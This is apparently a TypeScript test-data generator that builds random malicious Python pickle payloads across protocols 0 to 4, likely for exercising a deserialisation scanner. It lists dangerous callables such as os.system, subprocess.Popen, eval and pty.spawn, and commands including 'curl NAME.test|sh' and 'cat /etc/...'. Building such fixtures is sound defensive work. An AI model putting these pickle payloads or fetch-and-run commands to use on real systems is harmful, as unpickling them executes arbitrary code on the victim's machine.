import type { Random } from '../../lib/random.ts';
import { aName, aNumber, type Maker, oneOf } from './words.ts';

const callable = (random: Random): readonly [module: string, name: string] =>
  random.pick([
    ['os', 'system'],
    ['posix', 'system'],
    ['subprocess', 'Popen'],
    ['subprocess', 'check_output'],
    ['builtins', 'eval'],
    ['builtins', 'exec'],
    ['__builtin__', 'eval'],
    ['__builtin__', 'getattr'],
    ['commands', 'getoutput'],
    ['timeit', 'timeit'],
    ['pty', 'spawn'],
    ['webbrowser', 'open'],
    ['importlib', 'import_module'],
    ['runpy', 'run_path'],
    [`${aName(random)}_`, aName(random)],
  ] as const);

const command: Maker = oneOf(
  () => 'id',
  (random) => `cat /etc/${aName(random)}`,
  (random) => `curl ${aName(random)}.test|sh`,
  (random) => `${aNumber(random)}*${aNumber(random)}`,
  (random) => `__import__("os").system("${aName(random)}")`,
);

/** A text, with the operations of the old and of the new protocols. */
const text = (value: string, random: Random): string =>
  random.pick([
    `S'${value.replaceAll("'", '"')}'\n`,
    `V${value}\n`,
    `X${String.fromCharCode(value.length, 0, 0, 0)}${value}`,
    `\x8c${String.fromCharCode(value.length)}${value}`,
    `U${String.fromCharCode(value.length)}${value}`,
  ]);

const plainValue = (random: Random): string =>
  random.pick([
    `I${aNumber(random)}\n`,
    'N',
    '(l',
    ')',
    '}',
    `K${String.fromCharCode(random.below(128))}`,
  ]);

/** A call of a function of a module, as a pickle of protocols 0 to 4. */
export function pickled(random: Random): [kind: string, text: string] {
  const [module, name] = callable(random);
  const argument = text(command(random), random);
  const found = random.chance(60)
    ? `c${module}\n${name}\n`
    : `${text(module, random)}${text(name, random)}\x93`;
  const ways: readonly [string, string][] = [
    ['reduce', `${found}(${argument}tR`],
    ['reduce, one', `${found}${argument}\x85R`],
    ['inst', `(${argument}i${module}\n${name}\n`],
    ['obj', `(${found}${argument}o`],
    ['newobj', `${found}${argument}\x85\x81`],
  ];
  const [kind, made] = random.pick(ways);
  const inside = random.pick([
    made,
    `(${plainValue(random)}${made}l`,
    `}${text(aName(random), random)}${made}s`,
  ]);
  const isNew = /[\x80-\xff]/.test(inside);
  const start = isNew ? `\x80${String.fromCharCode(random.pick([2, 3, 4]))}` : '';
  return [`pickle ${kind}`, `${start}${inside}.`];
}
